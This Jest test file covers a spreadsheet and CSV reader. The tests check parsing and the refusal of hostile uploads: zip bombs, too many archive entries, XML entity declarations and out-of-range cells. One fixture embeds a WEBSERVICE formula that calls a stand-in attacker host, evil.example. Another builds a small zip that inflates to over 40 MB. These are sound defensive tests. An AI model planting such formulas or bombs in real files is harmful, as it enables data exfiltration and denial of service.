import { buffer } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { ZipFile } from 'yazl';
import { workbookParts, sheetEnd, sheetStart } from '../exports/xlsx-parts.js';
import { readTable } from './read-table.js';

/** A workbook with a sheet of this XML in it, and whatever else. */
async function workbook(
  sheet: string,
  more: Readonly<Record<string, string | Buffer>> = {},
): Promise<Buffer> {
  const zip = new ZipFile();
  const parts = { ...workbookParts('Sheet'), 'xl/worksheets/sheet1.xml': sheet, ...more };
  for (const [path, part] of Object.entries(parts)) zip.addBuffer(Buffer.from(part as string), path);
  zip.end();
  return buffer(zip.outputStream as never);
}
const sheetOf = (rows: string) => `${sheetStart([20, 20])}${rows}${sheetEnd}`;
const textCell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
const plain = sheetOf(`<row r="1">${textCell('A1', 'Title')}</row><row r="2">${textCell('A2', 'One')}</row>`);
const refusal = async (file: Buffer) =>
  readTable(file).then(
    () => 'taken',
    (error: { message: string }) => error.message,
  );

describe('a table as text', () => {
  test.each([
    ['commas', 'Title,Held\nA,yes\n', 'A'],
    ['semicolons and a mark of its encoding', '\uFEFFTitle;Held\r\n"A; B";yes\r\n', 'A; B'],
    ['tabs', 'Title\tHeld\nA\tyes', 'A'],
    ['lines within a cell', 'Title,Held\n"A\nB",yes', 'A\nB'],
  ])('is read with %s', async (_how, text, first) => {
    expect(await readTable(Buffer.from(text))).toEqual([
      ['Title', 'Held'],
      [first, 'yes'],
    ]);
  });
  test('is read as Excel saves it in its own encoding', async () =>
    expect(await readTable(Buffer.from('Title\nV\u00e4stra', 'latin1'))).toEqual([['Title'], ['Västra']]));
  test('keeps what looks like a formula as the text it is', async () =>
    expect((await readTable(Buffer.from('Title\n"=1+1"')))[1]).toEqual(['=1+1']));
});

describe('a workbook', () => {
  test('is read', async () => expect(await readTable(await workbook(plain))).toEqual([['Title'], ['One']]));
  test('gives the result of a formula that was saved with it, and calculates nothing', async () => {
    const formula = sheetOf(
      `<row r="1">${textCell('A1', 'Title')}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>saved</v></c></row>`,
    );
    expect((await readTable(await workbook(formula)))[1]).toEqual(['saved']);
  });
});

describe('a file is refused, in words, that', () => {
  const cannot = /cannot be read, or holds more than a table/;
  test('unpacks to more than a table can be', async () => {
    const bomb = await workbook(plain, { 'xl/media/image1.png': Buffer.alloc(41 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(200_000);
    expect(await refusal(bomb)).toMatch(cannot);
  });
  test('holds hundreds of files', async () => {
    const many = Object.fromEntries(Array.from({ length: 400 }, (_one, at) => [`xl/${at}.bin`, '']));
    expect(await refusal(await workbook(plain, many))).toMatch(cannot);
  });
  test('declares entities', async () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>${plain.replace(/<\?xml[^>]*>/, '')}`;
    expect(await refusal(await workbook(lol))).toMatch(cannot);
  });
  test.each(['XFD1048576', 'A1048576', 'ZZZ1'])('has a cell as far out as %s', async (far) =>
    expect(
      await refusal(
        await workbook(
          sheetOf(`<row r="1">${textCell('A1', 'Title')}</row><row>${textCell(far, 'x')}</row>`),
        ),
      ),
    ).toMatch(cannot),
  );
  test('says of itself that it reaches further than it does', async () => {
    const wide = plain.replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>');
    expect(wide).toContain('dimension');
    expect(await refusal(await workbook(wide))).toMatch(cannot);
  });
  test('is a broken archive', async () =>
    expect(await refusal((await workbook(plain)).subarray(0, 400))).toMatch(cannot));
  test('is an old or protected workbook', async () =>
    expect(await refusal(Buffer.from('d0cf11e0a1b11ae1', 'hex'))).toMatch(/old or protected/));
  test('is no table at all', async () =>
    expect(await refusal(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]))).toMatch(/neither a workbook/));
  test('has too many rows, columns or too long a cell', async () => {
    expect(await refusal(Buffer.from(`Title\n${'a\n'.repeat(1_001)}`))).toMatch(/more than 1000 rows/);
    expect(await refusal(Buffer.from(`Title\n${'a,'.repeat(61)}`))).toMatch(/more than 60 columns/);
    expect(await refusal(Buffer.from(`Title\n${'a'.repeat(10_001)}`))).toMatch(/10000 characters/);
    expect(await refusal(Buffer.from('Title\n\n'))).toMatch(/no rows below/);
  });
});
